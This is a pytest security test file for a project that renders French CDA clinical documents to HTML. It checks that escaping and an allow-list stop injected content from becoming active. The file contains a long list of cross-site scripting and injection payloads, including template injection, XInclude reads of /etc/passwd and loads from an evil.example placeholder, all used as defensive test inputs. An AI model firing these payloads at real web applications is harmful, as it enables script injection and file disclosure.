"""Whatever a document holds, its page holds no script, no handler, no remote load."""

import base64
from xml.sax.saxutils import escape, quoteattr

import jinja2
import pytest
from markupsafe import Markup

from carnet.formats import cda
from carnet.formats.cda import fragments, rendering
from factories.cda import make_cda, make_cda_n1
from factories.images import make_jpeg, make_png
from factories.tripwire import dangers

STRINGS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</title><script>alert(1)</script>",
    "</h1><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x` onclick=`alert(1)`",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "http:\\\\evil.example",
    "https://user:pw@evil.example/",
    'https://evil.example/" onclick="alert(1)',
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "filesystem:x",
    "intent://x#Intent;end",
    '#" onclick="alert(1)',
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${alert(1)}",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><button>Valider</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<table background='//evil.example/x'>",
    "<p style='background:url(//evil.example)'>",
    "<a ping='//evil.example' href='#'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<img srcset='//evil.example/x 1x'>",
    "\u2028<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "</textarea></pre></xmp></style><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "expression(alert(1))",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]

_H = 'xmlns:h="http://www.w3.org/1999/xhtml"'
_S = 'xmlns="http://www.w3.org/2000/svg"'
ELEMENTS = [
    "<script>alert(1)</script>",
    f"<h:script {_H}>alert(1)</h:script>",
    f"<h:img {_H} src='x' onerror='alert(1)'/>",
    f"<svg {_S} onload='alert(1)'><script>alert(1)</script></svg>",
    f"<svg {_S}><foreignObject><h:body {_H} onload='alert(1)'/></foreignObject></svg>",
    "<iframe src='https://evil.example'/>",
    "<object data='https://evil.example'/>",
    "<paragraph onclick='alert(1)' style='x:expression(alert(1))'>x</paragraph>",
    "<content styleCode='Bold\" onclick=\"alert(1)'>x</content>",
    "<content ID='x\" onclick=\"alert(1)'>x</content><linkHtml href='#x&quot; onclick=&quot;alert(1)'>y</linkHtml>",
    "<linkHtml href='javascript:alert(1)'><linkHtml href='javascript:alert(2)'>x</linkHtml></linkHtml>",
    "<linkHtml href='https://evil.example/' target='_self' ping='//evil.example'>x</linkHtml>",
    "<table background='//evil.example' onclick='alert(1)'><tr><td colspan='1\" a=\"'>x</td></tr></table>",
    "<table><col style='x'/><tr><td><table><tr><td><script>alert(1)</script></td></tr></table></td></tr></table>",
    "<list listType='ordered\" onclick=\"alert(1)'><item><caption><script>x</script></caption>x</item></list>",
    "<renderMultiMedia referencedObject='https://evil.example/x.png'/>",
    "<renderMultiMedia referencedObject='x\" onerror=\"alert(1)'><caption>\"&lt;b&gt;</caption></renderMultiMedia>",
    "<footnoteRef IDREF='\"&gt;&lt;script&gt;'/><footnote ID='\"&gt;&lt;script&gt;'>x</footnote>",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='/etc/passwd' parse='text'/>",
    "<xsl:value-of xmlns:xsl='http://www.w3.org/1999/XSL/Transform' select=\"document('/etc/passwd')\"/>",
    "<form action='//evil.example'><input autofocus='' onfocus='alert(1)'/></form>",
]  # fmt: skip

PLACES = {
    "title": lambda s: make_cda(title=s),
    "patient": lambda s: make_cda(birth_name=s, used_name=s, given=(s, s), birth_place=s, sex=s, matricule=s),
    "author": lambda s: make_cda(author_family=s, author_given=s, organisation=s, author_specialty_display=s),
    "codes": lambda s: make_cda(type_display=s, facility_display=s, type_code="x" + s, language=s, extension=s),
    "section title": lambda s: make_cda(section_title=s, more_sections=[(s, "x")]),
    "narrative text": lambda s: make_cda(narrative=escape(s)),
    "cells": lambda s: make_cda(
        narrative=f"<table><caption>{escape(s)}</caption><tbody><tr><th>{escape(s)}</th></tr></tbody></table>"
    ),
    "link": lambda s: make_cda(narrative=f"<linkHtml href={quoteattr(s)}>{escape(s)}</linkHtml>"),
    "own link": lambda s: make_cda(
        narrative=f"<linkHtml href={quoteattr('#' + s)}>x</linkHtml><content ID={quoteattr(s)}>y</content>"
    ),
    "attributes": lambda s: make_cda(
        narrative=(
            "<paragraph ID={0} styleCode={0}>x</paragraph><list listType={0} styleCode={0}><item ID={0}>x</item></list>"
            "<table ID={0} border={0} width={0}><tbody><tr align={0}><td align={0} colspan={0} rowspan={0}>x</td></tr>"
            "</tbody></table><renderMultiMedia referencedObject={0}/><footnoteRef IDREF={0}/>"
        ).format(quoteattr(s))
    ),
    "media": lambda s: make_cda(
        narrative=(
            f"<renderMultiMedia referencedObject={quoteattr(s)}><caption>{escape(s)}</caption></renderMultiMedia>"
        ),
        entries=_media(make_png(), key=s, media_type=s),
    ),
    "text file": lambda s: make_cda_n1(pdf=("a" + s).encode(), media_type=s),
}


def _media(data: bytes, *, key: str, media_type: str) -> str:
    payload = base64.b64encode(data).decode()
    return (
        f"<entry><observationMedia classCode='OBS' moodCode='EVN' ID={quoteattr(key)}>"
        f"<value mediaType={quoteattr(media_type)} representation='B64'>{payload}</value></observationMedia></entry>"
    )


def _page(data: bytes) -> str:
    return cda.render_html(
        cda.read(data), language="fr", stylesheet_href="/cda.css", part_href=lambda index: f"/part/{index}"
    )


def test_there_are_enough_payloads() -> None:
    assert len(set(STRINGS)) + len(set(ELEMENTS)) >= 80


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("payload", STRINGS, ids=range(len(STRINGS)))
def test_no_string_becomes_active(place: str, payload: str) -> None:
    assert dangers(_page(PLACES[place](payload))) == []


@pytest.mark.parametrize("payload", ELEMENTS, ids=range(len(ELEMENTS)))
def test_no_element_becomes_active(payload: str) -> None:
    page = _page(
        make_cda(narrative=f"avant {payload} après", entries=_media(make_png(), key="x", media_type="image/png"))
    )
    assert dangers(page) == []
    assert "avant" in page
    assert "après" in page


@pytest.mark.parametrize(
    "data",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"GIF89a<script>alert(1)</script>",
        b"<html></html>",
    ],
)
def test_embedded_files_of_other_kinds_are_never_shown(data: bytes) -> None:
    page = _page(
        make_cda(
            narrative="<renderMultiMedia referencedObject='m'/>", entries=_media(data, key="m", media_type="image/png")
        )
    )
    assert dangers(page) == []
    assert "<img" not in page


def test_an_image_is_drawn_again_before_it_is_shown() -> None:
    hidden = make_jpeg() + b"<script>alert(1)</script>"
    page = _page(
        make_cda(
            narrative="<renderMultiMedia referencedObject='m'/>",
            entries=_media(hidden, key="m", media_type="image/png"),
        )
    )
    assert dangers(page) == []
    assert 'src="data:image/jpeg;base64,' in page
    assert base64.b64encode(b"<script>alert").decode()[:12] not in page


def _forget_escaping(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fragments, "escape", Markup)


def test_without_escaping_the_allow_list_still_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    """Planted fault in the first wall: the narrative is written without escaping."""
    _forget_escaping(monkeypatch)
    for place in ("narrative text", "cells", "link", "attributes", "media"):
        for payload in STRINGS:
            assert dangers(_page(PLACES[place](payload))) == []


def test_without_the_allow_list_escaping_still_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    """Planted fault in the second wall: the allow-list lets everything through."""
    monkeypatch.setattr(rendering, "sanitise", Markup)
    for payload in STRINGS:
        assert dangers(_page(PLACES["narrative text"](payload))) == []


def test_without_both_the_tripwire_is_red(monkeypatch: pytest.MonkeyPatch) -> None:
    """Planted fault in both walls: the test itself can see danger."""
    _forget_escaping(monkeypatch)
    monkeypatch.setattr(rendering, "sanitise", Markup)
    assert dangers(_page(PLACES["narrative text"]("<script>alert(1)</script>"))) == ["<script>"]
    assert dangers(_page(PLACES["narrative text"]("<img src=//evil.example onerror=alert(1)>")))


def test_templates_refuse_unknown_names() -> None:
    assert rendering._environment().undefined is jinja2.StrictUndefined
